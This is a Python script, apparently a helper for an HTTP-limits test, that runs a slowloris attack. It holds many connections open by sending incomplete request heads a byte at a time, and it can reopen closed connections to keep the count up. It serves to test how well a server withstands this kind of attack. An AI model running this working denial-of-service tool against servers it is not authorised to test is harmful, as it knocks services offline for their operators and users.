#!/usr/bin/env python3
"""slowloris.py - hold many HTTP connections open by sending a request's
head a byte at a time, for test_http_limits.sh.

    slowloris.py HOST PORT --connections N --interval S --duration S [--reconnect]

Each connection sends "GET /metrics HTTP/1.1\\r\\nHost: x\\r\\n" and then one
more header byte every INTERVAL seconds, never the blank line that ends the
head. With --reconnect the connections the server closed are opened again
at each drip, as the classic slowloris tool does (an attacker that keeps
its count up). Prints one JSON line at the end: opened, closed by the
server, connect errors, open at the end.
"""
import argparse
import json
import resource
import selectors
import socket
import time


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("host")
    ap.add_argument("port", type=int)
    ap.add_argument("--connections", type=int, default=1000)
    ap.add_argument("--interval", type=float, default=4.0)
    ap.add_argument("--duration", type=float, default=30.0)
    ap.add_argument("--reconnect", action="store_true")
    a = ap.parse_args()
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    want = min(hard, a.connections + 64) if hard != resource.RLIM_INFINITY else a.connections + 64
    if soft < want:
        resource.setrlimit(resource.RLIMIT_NOFILE, (want, hard))

    sel = selectors.DefaultSelector()
    stats = {"opened": 0, "closed_by_server": 0, "connect_errors": 0}

    def open_one():
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(False)
        try:
            s.connect_ex((a.host, a.port))
        except OSError:
            stats["connect_errors"] += 1
            s.close()
            return
        sel.register(s, selectors.EVENT_READ)
        pending[s] = b"GET /metrics HTTP/1.1\r\nHost: x\r\nX-a: "
        stats["opened"] += 1

    pending = {}
    for _ in range(a.connections):
        open_one()
    end = time.monotonic() + a.duration
    next_drip = time.monotonic()
    while time.monotonic() < end:
        now = time.monotonic()
        if now >= next_drip:
            if a.reconnect:
                for _ in range(a.connections - len(pending)):
                    open_one()
            for s in list(pending):
                try:
                    s.send(pending[s] if pending[s] else b"a")
                    pending[s] = b""
                except (BlockingIOError, InterruptedError):
                    pass
                except OSError:
                    pass  # noticed as closed below
            next_drip = now + a.interval
        for key, _ in sel.select(timeout=0.2):
            s = key.fileobj
            try:
                data = s.recv(4096)
            except (BlockingIOError, InterruptedError):
                continue
            except OSError:
                data = b""
            if data:
                continue  # an answer (408, 503): the close follows
            sel.unregister(s)
            pending.pop(s, None)
            s.close()
            stats["closed_by_server"] += 1
    stats["open_at_end"] = len(pending)
    for s in list(pending):
        s.close()
    print(json.dumps(stats))


if __name__ == "__main__":
    main()
